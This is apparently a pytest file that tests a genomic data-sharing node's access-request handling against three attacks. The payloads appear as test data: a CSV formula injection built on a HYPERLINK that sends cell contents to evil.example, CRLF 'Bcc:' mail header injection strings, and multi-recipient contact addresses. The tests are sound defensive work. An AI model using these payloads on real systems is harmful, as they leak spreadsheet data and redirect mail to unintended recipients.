"""A researcher's own words and claims in an access request, turned against the node's mail and reports.

Through ``genoshare serve`` with a real SMTP server (aiosmtpd) behind it: a contact address that lists a
victim's mailbox besides the researcher's (the node would mail its decisions there), a project title with
a line break and a header after it (mail header injection, or a lost notice), and an affiliation visa
that is a spreadsheet formula, in the access report CSV the committee opens in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from genoshare.access.issuer import VisaIssuer
from genoshare.datasets.service import DatasetService, NewDataset
from genoshare.node import init_node
from genoshare.settings import TrustedIssuer, load_settings
from genoshare.store.models import Dataset
from receivers import MailServer

from portal_support import csrf_token
from processes import Server
from support import TEST_ISSUER, TEST_PASSPORT_POLICY, Passports

pytestmark = pytest.mark.slow
COHORT = "cohort"
COMMITTEE_MAIL = "dac@node.example"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@dataclass
class Served:
    server: Server
    mail: MailServer
    issuer: VisaIssuer

    def researcher(self, affiliation: str = "faculty@university.example") -> str:
        passports = Passports(self.issuer, subject="researcher-1")
        visa = self.issuer.visa("researcher-1", "AffiliationAndRole", affiliation, by="system")
        return self.issuer.passport("researcher-1", [passports.researcher_visa(), visa])

    def submit(self, passport: str, **fields: str) -> httpx.Response:
        body = {"datasets": [COHORT], "purpose": {"primary": "GRU"}, "project_title": "A study", "institution": "Uni"}
        return httpx.post(
            f"{self.server.url}/governance/requests",
            headers={"Authorization": f"Bearer {passport}"},
            json={**body, **fields},
            timeout=30,
        )


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("request-text")
    issuer = VisaIssuer.load_or_create(TEST_ISSUER, root / "issuer.jwk.json")
    issuer.write_jwks(root / "jwks.json")
    settings = load_settings(
        root / "node",
        database_url=f"sqlite:///{root / 'node.db'}",
        trusted_issuers=[TrustedIssuer(issuer=TEST_ISSUER, jwks_file=root / "jwks.json")],
        passports=TEST_PASSPORT_POLICY,
    )
    built = init_node(settings)
    datasets = DatasetService(built.database)
    datasets.create(NewDataset(COHORT, "A cohort", "Custodian", "controlled", ["GRU"]))
    datasets.set_committee(COHORT, [f"chair@{TEST_ISSUER}"], False)
    with built.database.session() as session:
        row = session.get(Dataset, COHORT)
        assert row is not None
        row.committee_email = COMMITTEE_MAIL
    built.close()
    mail = MailServer(root)
    server = Server(settings.data_dir, {"GENOSHARE_DATABASE_URL": settings.database_url, **mail.env})
    try:
        yield Served(server, mail, issuer)
    finally:
        server.stop()
        mail.stop()


def test_a_contact_address_is_one_mailbox_not_a_list_of_victims(node: Served) -> None:
    passport = node.researcher()
    for address in (
        "me@uni.example, victim@else.example",
        "me@uni.example;victim@else.example",
        "me@uni.example\r\nBcc: victim@else.example",
        "me@uni.example victim@else.example",
        "no address at all",
    ):
        answer = node.submit(passport, project_title="Contact", contact_email=address)
        assert answer.status_code == 400, (address, answer.status_code, answer.text[:300])
        assert "contact" in answer.text.lower(), answer.text[:300]
    assert node.submit(passport, project_title="Contact", contact_email="me@uni.example").status_code == 201


def test_a_line_break_in_a_title_neither_adds_a_header_nor_loses_the_notice(node: Served) -> None:
    title = "Line break study\r\nBcc: victim@else.example"
    answer = node.submit(node.researcher(), project_title=title)
    assert answer.status_code in (201, 400), answer.text[:300]
    if answer.status_code == 201:
        message = node.mail.wait_for(lambda m: "Line break study" in str(m["Subject"]))
        assert COMMITTEE_MAIL in str(message["To"])
        assert message["Bcc"] is None and "\n" not in str(message["Subject"]).strip()
    for message in node.mail.messages():
        assert "victim@else.example" not in str(message.get("X-RcptTo", "")), "the node mailed the victim"
        assert message["Bcc"] is None


def test_the_access_report_csv_holds_no_formula(node: Served) -> None:
    assert node.submit(node.researcher(affiliation=FORMULA), project_title="Formula").status_code == 201
    chair = Passports(node.issuer, subject="chair").anonymous_researcher()
    with httpx.Client(base_url=node.server.url, timeout=30, headers={"Origin": node.server.url}) as client:
        page = client.get("/portal/signin")
        signed = client.post(
            "/portal/signin/passport",
            data={"csrf_token": csrf_token(page.text), "passport": chair, "next": "/portal/"},
        )
        assert signed.status_code == 303, signed.text[:300]
        report = client.get(f"/portal/reports/{COHORT}/access-report.csv")
    assert report.status_code == 200, report.text[:300]
    rows = list(csv.reader(io.StringIO(report.text)))
    assert any("HYPERLINK" in cell for row in rows for cell in row), "the affiliation is in the report, as text"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"a spreadsheet would run {cell!r}"
